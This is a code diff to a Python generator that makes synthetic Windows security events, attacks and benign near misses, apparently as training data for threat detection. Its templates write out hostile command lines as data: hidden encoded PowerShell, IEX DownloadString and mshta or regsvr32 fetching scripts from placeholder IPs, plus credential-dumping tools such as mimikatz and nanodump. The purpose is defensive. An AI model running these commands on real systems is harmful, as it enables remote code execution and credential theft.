@@ -10,6 +10,8 @@ from training.forms import security, windows_logs
 from training.forms.facts import Facts
 from training.forms.scene import Scene
 from training.forms.sysmon import stream_created, tampering, wmi_subscription
+from training.generators.attack_credentials import CREDENTIAL_EVENTS
+from training.generators.attack_directory import DIRECTORY_EVENTS
 from training.generators.event_rows import (
     EventTemplate,
     Maker,
@@ -46,7 +48,7 @@ _SHELLS = f"«{_S32}WindowsPowerShell\\v1.0\\powershell.exe¦{_S32}cmd.exe¦{_S3
 _DUMPERS = f"«{_OWN}¦C:\\Tools\\«procdump64¦procdump¦nanodump¦mimikatz¦dumpert».exe¦{_S32}rundll32.exe¦{_S32}WindowsPowerShell\\v1.0\\powershell.exe¦{_S32}rdrleakdiag.exe¦{_S32}notepad.exe»"
 _FULL = "«0x1010¦0x1038¦0x1410¦0x1438¦0x143a¦0x1fffff¦0x1f1fff¦0x1f0fff¦0x101410¦0x1f3fff¦0x1410»"
 _LEGIT = "«C:\\Program Files\\‹Word›\\‹name›.exe¦C:\\Windows\\System32\\«svchost¦services¦msiexec¦taskhostw».exe¦C:\\Program Files (x86)\\‹Word› ‹Word›\\‹name›.exe»"
-_PAYLOAD = "«powershell.exe -nop -w hidden -enc ‹hash›‹hash›¦cmd.exe /c ‹dir›\\‹name›.bat¦rundll32.exe C:\\Users\\Public\\‹name›.dll,‹Word›¦C:\\Users\\Public\\‹name›.exe¦C:\\Users\\‹user›\\AppData\\Roaming\\‹name›.exe¦mshta.exe http://‹ip›/‹name›.hta¦wscript.exe C:\\ProgramData\\‹name›.vbs¦regsvr32.exe /s /u /i:http://‹ip›/‹name›.sct scrobj.dll»"
+_PAYLOAD = "«powershell.exe -nop -w hidden -enc ‹enc›¦cmd.exe /c ‹dir›\\‹name›.bat¦rundll32.exe C:\\Users\\Public\\‹name›.dll,‹Word›¦C:\\Users\\Public\\‹name›.exe¦C:\\Users\\‹user›\\AppData\\Roaming\\‹name›.exe¦mshta.exe http://‹ip›/‹name›.hta¦wscript.exe C:\\ProgramData\\‹name›.vbs¦regsvr32.exe /s /u /i:http://‹ip›/‹name›.sct scrobj.dll»"
 _TASK = "\\«‹name›¦‹Word›Update¦Microsoft\\Windows\\‹Word›\\‹name›»"
 _USER_HIVE = "HKU\\S-1-5-21-1‹pid›-‹pid›-‹pid›-1001"
 _GUIDS = "«%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}¦%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}¦%%7688 {89e95b76-444d-4c62-991a-0facbeda640c} {19195a5b-6da0-11d0-afd3-00c04fd930c9}»"
@@ -416,7 +418,7 @@ _ATTACKS: tuple[tuple[str, str, Maker], ...] = (
         "T1053.005",
         task(
             _TASK,
-            "«powershell.exe¦C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe§-nop -w hidden -enc ‹hash›‹hash›¦powershell§-ep bypass -file C:\\Users\\Public\\‹name›.ps1¦powershell.exe§-c IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›')»",
+            "«powershell.exe¦C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe§-nop -w hidden -enc ‹enc›¦powershell§-ep bypass -file C:\\Users\\Public\\‹name›.ps1¦powershell.exe§-c IEX (New-Object Net.WebClient).DownloadString('http://‹ip›/‹name›')»",
         ),
     ),
     (
@@ -754,8 +756,11 @@ _FOUND = (
 
 ATTACK_TEMPLATES = tuple(EventTemplate(name, label, make) for name, label, make in _ATTACKS) + _FOUND[:2]
 NEAR_MISS_TEMPLATES = tuple(EventTemplate(f"near-{name}", BENIGN, make) for name, make in _NEAR_MISSES) + _FOUND[2:]
+# Attacks and near misses side by side, a file a theme.
+THEMES = CREDENTIAL_EVENTS + DIRECTORY_EVENTS
+TEMPLATES = ATTACK_TEMPLATES + NEAR_MISS_TEMPLATES + THEMES
 
 
 def generate(count: int, rng: random.Random) -> Iterator[Example]:
     """`count` events: attacks and near misses, each kind as often as the others."""
-    return generate_events(ATTACK_TEMPLATES + NEAR_MISS_TEMPLATES, SOURCE, count, rng)
+    return generate_events(TEMPLATES, SOURCE, count, rng)
